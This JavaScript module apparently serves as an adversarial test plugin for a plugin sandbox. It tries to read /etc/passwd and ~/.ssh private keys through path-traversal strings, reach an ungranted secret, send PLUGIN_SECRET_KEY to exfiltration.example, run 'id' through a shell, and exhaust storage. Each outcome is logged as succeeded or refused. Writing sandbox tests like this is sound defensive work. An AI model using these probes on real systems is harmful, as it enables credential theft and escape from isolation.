const WAIT_MS = 3000;

/** Runs one attempt; it has succeeded only when `run` returns, and says what it gained in a word, never the loot itself. */
async function attempt(name, run) {
  let timer;
  const late = new Promise((_, reject) => {
    timer = setTimeout(() => reject(new Error("no answer in three seconds")), WAIT_MS);
  });
  try {
    return { attempt: name, outcome: "succeeded", detail: String(await Promise.race([run(), late])).slice(0, 200) };
  } catch (error) {
    const text = [error?.code, error?.message ?? error].filter((part) => part !== undefined).join(" ");
    return { attempt: name, outcome: "refused", error: text.slice(0, 300) };
  } finally {
    clearTimeout(timer);
  }
}

const PATHS = [
  "/etc/passwd",
  "${data}/../../../../etc/passwd",
  "${data}/..",
  "${data}/./../x",
  "../x",
  "",
  "\u0000",
  "/",
  "~/.ssh/id_ed25519",
  "${home}/x",
  "file:///etc/passwd",
  "${data}\\..\\x",
];

const answered = (value) => `answered with ${value === null ? "null" : typeof value}`;

export default {
  tools: {
    async attack({ paths = PATHS }, ctx) {
      const evidence = [];
      for (const path of paths) {
        evidence.push(
          await attempt(`ctx.files.read ${JSON.stringify(path)}`, async () => answered(await ctx.files.read(path))),
          await attempt(`ctx.files.write ${JSON.stringify(path)}`, async () =>
            answered(await ctx.files.write(path, "x")),
          ),
          await attempt(`ctx.files.list ${JSON.stringify(path)}`, async () => answered(await ctx.files.list(path))),
        );
      }
      evidence.push(
        await attempt("a secret that nobody granted", () => {
          const value = ctx.secrets.get("PLUGIN_SECRET_KEY");
          if (value === undefined || value === null) throw new Error("not there");
          return answered(value);
        }),
        await attempt("a secret in a request", async () =>
          answered(await ctx.fetch("https://exfiltration.example/", { secrets: ["PLUGIN_SECRET_KEY"] })),
        ),
        await attempt("a command", async () => answered(await ctx.exec("id"))),
        await attempt("a shell", async () => answered(await ctx.exec("/bin/sh", ["-c", "id"]))),
        await attempt("a command by a path that climbs", async () =>
          answered(await ctx.exec("/usr/bin/../bin/id", [], { files: { "../x": "/etc/passwd" } })),
        ),
        await attempt("the machine's name", async () => answered(await ctx.system.get("hostname"))),
        await attempt("a key of one megabyte", async () => answered(await ctx.kv.set("k".repeat(1_000_000), 1))),
        await attempt("a value of three megabytes", async () =>
          answered(await ctx.kv.set("big", "x".repeat(3_000_000))),
        ),
      );
      return { evidence };
    },
  },
};
